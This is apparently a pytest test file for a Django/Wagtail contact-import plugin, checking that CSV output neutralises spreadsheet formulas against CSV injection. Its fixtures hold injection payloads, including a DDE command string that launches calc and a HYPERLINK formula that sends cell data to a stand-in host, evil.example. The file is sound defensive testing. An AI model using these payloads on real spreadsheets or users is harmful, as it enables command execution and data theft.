"""Every CSV the product writes neutralises formulas (CSV injection)."""

import csv
import io

import pytest

from wagtail_mailflow import contact_import as service
from wagtail_mailflow.contact_import.csv_output import neutralise, writer
from wagtail_mailflow.models import ContactList

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+2", "'=1+2"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (12, 12),
    ],
)
def test_neutralise(cell, written):
    assert neutralise(cell) == written


def test_writer_neutralises_every_cell():
    out = io.StringIO()
    writer(out).writerow(["=cmd|' /C calc'!A0", "ok", 3])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=cmd|' /C calc'!A0", "ok", "3"]]


def test_import_problems_csv_neutralises_formulas():
    contact_list = ContactList.objects.create(name="News")
    data = (
        b'email,first_name\n=HYPERLINK("http://evil.example/?"&A1),Eve\n'
        b"@SUM(1+1)*cmd,Mal\n+1-2,Plus\n-1+2,Minus\nok@example.com,\n"
    )
    delimiter, headers, _count = service.inspect_file(io.BytesIO(data), "utf-8")
    problems = io.StringIO()
    result = service.import_csv(
        io.BytesIO(data),
        contact_list=contact_list,
        headers=headers,
        mapping=service.propose_mapping(headers),
        delimiter=delimiter,
        problems_file=problems,
    )
    assert (result.created, result.invalid) == (1, 4)
    rows = list(csv.reader(io.StringIO(problems.getvalue())))[1:]
    assert [row[1] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1)',
        "'@SUM(1+1)*cmd",
        "'+1-2",
        "'-1+2",
    ]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
